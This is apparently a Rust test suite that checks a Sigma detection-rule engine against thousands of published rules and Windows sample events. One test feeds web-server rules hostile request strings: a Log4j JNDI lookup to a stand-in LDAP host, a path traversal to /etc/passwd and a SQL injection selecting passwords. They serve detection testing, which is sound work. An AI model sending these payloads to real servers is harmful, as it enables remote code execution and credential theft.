//! Sigma's published rules, and the events that its authors keep to show that each still fires. Two worlds meet here, both
//! of somebody else's making: 3,754 rules and 202 samples, of Windows all of them.

#![allow(clippy::unwrap_used, clippy::print_stderr)]

use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;

use flate2::read::GzDecoder;
use overt_intrusion::rules::{RuleHit, Rules, Unrouted, as_event};
use overt_model::log::{Event, Logged, Request};
use serde_json::Value;

const FOLDER: &str = "data/intrusion/sigma";

/// The files of an archive that end so, in the order of their names.
fn archive(name: &str, endings: &[&str]) -> Option<BTreeMap<String, String>> {
    let path = overt_testdata::shared(&format!("{FOLDER}/{name}"))?;
    let mut archive = tar::Archive::new(GzDecoder::new(std::fs::File::open(path).unwrap()));
    let mut files = BTreeMap::new();
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let name = entry.path().unwrap().display().to_string();
        if endings.iter().any(|ending| name.ends_with(ending)) {
            let mut text = String::new();
            entry.read_to_string(&mut text).unwrap();
            files.insert(name, text);
        }
    }
    Some(files)
}

/// Events with the ids of the rules that must fire on them.
struct Sample {
    folder: String,
    must_fire: Vec<String>,
    events: Vec<Event<'static>>,
}

fn samples() -> Option<Vec<Sample>> {
    let files = archive("sigma-regression.tgz", &["info.yml", ".json"])?;
    // Names in the archive are in lower case.
    #[allow(clippy::case_sensitive_file_extension_comparisons)]
    let is_json = |name: &str, folder: &str| name.starts_with(folder) && name.ends_with(".json");
    let infos = files.iter().filter(|(name, _)| name.ends_with("info.yml"));
    let samples = infos.filter_map(|(name, info)| {
        let folder = name.trim_end_matches("info.yml").to_owned();
        let events = &files[files.keys().find(|name| is_json(name, &folder))?];
        let (_, rules) = info.split_once("rule_metadata:")?;
        let ids = rules
            .lines()
            .filter_map(|line| line.trim().strip_prefix("- id:"));
        let events = serde_json::Deserializer::from_str(events).into_iter::<Value>();
        Some(Sample {
            must_fire: ids.map(|id| id.trim().to_owned()).collect(),
            events: events.map(|event| windows(&event.unwrap())).collect(),
            folder,
        })
    });
    Some(samples.collect())
}

/// An event of Windows as the readers of logs hand it over: fields of its data by their names, those of the system with
/// attributes joined by `_`.
fn windows(value: &Value) -> Event<'static> {
    let mut fields = Vec::new();
    flatten("", &value["Event"], &mut fields);
    let fields: Vec<(String, String)> = fields
        .into_iter()
        .map(|(name, value)| (renamed(&name), value))
        .collect();
    let one = |name: &str| {
        let found = fields.iter().find(|(field, _)| field == name);
        found.map(|(_, value)| value.clone().into())
    };
    Event {
        product: "windows".into(),
        service: one("Channel"),
        kind: one("EventID"),
        computer: one("Computer"),
        fields: fields
            .iter()
            .map(|(name, value)| (name.clone().into(), value.clone().into()))
            .collect(),
        ..Event::default()
    }
}

fn flatten(name: &str, value: &Value, fields: &mut Vec<(String, String)>) {
    match value {
        Value::Object(inner) => {
            for (key, value) in inner {
                let dot = if name.is_empty() { "" } else { "." };
                flatten(&format!("{name}{dot}{key}"), value, fields);
            }
        }
        Value::Array(inner) => inner.iter().for_each(|value| flatten(name, value, fields)),
        Value::Null => {}
        Value::String(text) => fields.push((name.to_owned(), text.clone())),
        other => fields.push((name.to_owned(), other.to_string())),
    }
}

fn renamed(name: &str) -> String {
    let short = if let Some(system) = name.strip_prefix("System.") {
        system.replace(".#attributes.", "_")
    } else if let Some(user) = name.strip_prefix("UserData.") {
        user.split_once('.')
            .map_or(user, |(_, field)| field)
            .to_owned()
    } else {
        let data = name.strip_prefix("EventData.").unwrap_or(name);
        data.replace("#attributes.", "")
    };
    short.trim_end_matches(".#text").to_owned()
}

fn ids(hits: &[RuleHit]) -> BTreeSet<&str> {
    hits.iter().map(|hit| hit.id.as_str()).collect()
}

#[test]
fn all_published_rules_load_and_fire_on_their_samples() {
    let Some(texts) = archive("sigma-rules.tgz", &[".yml"]) else {
        return;
    };
    let samples = samples().unwrap();
    let files = texts.len();
    let (mut rules, refused) = Rules::new(texts.clone().into_iter());
    assert_eq!(refused, []);
    assert_eq!((files, rules.len()), (3_754, 3_754));
    // Two rules wait for the names of an office's certificate servers.
    assert_eq!(rules.remarks().len(), 2, "{:?}", rules.remarks());

    let unrouted = Unrouted::new(texts.into_iter());
    let (mut fired, mut others, mut other_rules) = (0, 0, 0);
    for sample in &samples {
        let mut of_sample = BTreeSet::new();
        for event in &sample.events {
            let hits = rules.look(event);
            assert_eq!(hits, unrouted.look(event), "{}", sample.folder);
            let others_fired = |hit: &&RuleHit| !sample.must_fire.contains(&hit.id);
            others += hits.iter().filter(others_fired).count();
            of_sample.extend(ids(&hits).into_iter().map(str::to_owned));
        }
        let all = sample.must_fire.iter().all(|id| of_sample.contains(id));
        if !all {
            eprintln!("did not fire: {} {:?}", sample.folder, sample.must_fire);
        }
        fired += usize::from(all);
        other_rules += of_sample.len() - usize::from(all);
    }
    eprintln!(
        "{fired} of {} samples fire; other rules: {other_rules} by sample, {others} by event",
        samples.len()
    );
    assert_eq!((fired, samples.len()), (202, 202));
    assert!(other_rules <= 130, "{other_rules}");

    let idle = rules.not_examined();
    let of = |source: &str| {
        idle.iter()
            .find(|idle| idle.source == source)
            .unwrap()
            .rules
    };
    assert_eq!(of("product aws"), 57);
    assert_eq!(of("product windows, category driver_load"), 10);
    let examined = rules.len() - idle.iter().map(|idle| idle.rules).sum::<usize>();
    eprintln!(
        "{examined} of {} rules were held against an event",
        rules.len()
    );
}

/// An office without Sysmon has Windows' own audit of processes, which says less. The same events as that writes them:
/// without digests, versions and the folder they ran in.
#[test]
fn most_rules_for_processes_fire_on_windows_own_audit_too() {
    let Some(texts) = archive("sigma-rules.tgz", &[".yml"]) else {
        return;
    };
    let of_processes = |(_, text): &(String, String)| text.contains("category: process_creation");
    let (mut rules, _) = Rules::new(texts.into_iter().filter(of_processes));
    let (mut fired, mut all) = (0, 0);
    for sample in samples().unwrap() {
        let mut events = sample.events.iter().filter_map(as_audit).peekable();
        if events.peek().is_none() {
            continue;
        }
        all += 1;
        let mut hits = events.flat_map(|event| rules.look(&event));
        fired += usize::from(hits.any(|hit| sample.must_fire.contains(&hit.id)));
    }
    eprintln!("{fired} of {all} samples of processes fire as Windows' own audit writes them");
    assert!(fired * 10 >= all * 9, "{fired} of {all}");
}

fn as_audit(event: &Event<'static>) -> Option<Event<'static>> {
    let is_process = event.service.as_deref()?.contains("Sysmon") && event.kind.as_deref()? == "1";
    let names = [
        ("Image", "NewProcessName"),
        ("ParentImage", "ParentProcessName"),
        ("CommandLine", "CommandLine"),
        ("User", "SubjectUserName"),
    ];
    let field = |(from, to): (&str, &'static str)| {
        let value = event.get(from)?.to_owned();
        Some((to.into(), value.into()))
    };
    is_process.then(|| Event {
        product: "windows".into(),
        service: Some("Security".into()),
        kind: Some("4688".into()),
        fields: names.into_iter().filter_map(field).collect(),
        ..Event::default()
    })
}

/// What was sent to web servers in 2021, as their logs have it.
#[test]
fn rules_for_web_servers_see_requests() {
    let Some(texts) = archive("sigma-rules.tgz", &[".yml"]) else {
        return;
    };
    let (mut rules, _) = Rules::new(texts.into_iter().filter(|(name, _)| name.contains("web")));
    let mut fires = |target: &'static str| {
        let request = Logged::Request(Request {
            source: "203.0.113.9".into(),
            method: "GET".into(),
            target: target.into(),
            status: Some(200),
            ..Request::default()
        });
        let hits = rules.look(&as_event(&request).unwrap());
        hits.into_iter().map(|hit| hit.title).collect::<Vec<_>>()
    };
    for (target, title) in [
        ("/?x=${jndi:ldap://203.0.113.9/a}", "Log4j"),
        ("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", "CVE-2021-41773"),
        ("/voter?id=1%20union%20select%20password", "SQL Injection"),
    ] {
        let found = fires(target);
        assert!(
            found.iter().any(|t| t.contains(title)),
            "{target}: {found:?}"
        );
    }
    assert_eq!(fires("/voter?id=1"), [""; 0]);
}

/// Rules come from the net: whatever is cut off or flipped is refused or read, and nothing ends the program.
#[test]
fn damaged_rules_are_refused_or_read() {
    let Some(texts) = archive("sigma-rules.tgz", &[".yml"]) else {
        return;
    };
    let texts: Vec<(String, String)> = texts.into_iter().step_by(40).collect();
    let mut damaged = Vec::new();
    for (n, (name, text)) in texts.iter().enumerate() {
        let cut: String = text.chars().take(text.len() * (n % 7 + 1) / 8).collect();
        let flipped = text.replacen(
            ['|', ':', '*', '-'],
            ["[", "{", "\"", "&", "\t"][n % 5],
            n % 11 + 1,
        );
        damaged.push((name.clone(), cut));
        damaged.push((name.clone(), flipped));
        damaged.push((name.clone(), format!("{text}\n---\n{text}")));
    }
    let given = damaged.len();
    let (rules, refused) = Rules::new(damaged.into_iter());
    let told: BTreeSet<&str> = refused
        .iter()
        .map(|refused| refused.name.as_str())
        .collect();
    assert!(!told.is_empty() && rules.len() >= 2 * texts.len());
    // A text with two documents gives two rules.
    assert!(rules.len() + refused.len() >= given + texts.len());
}
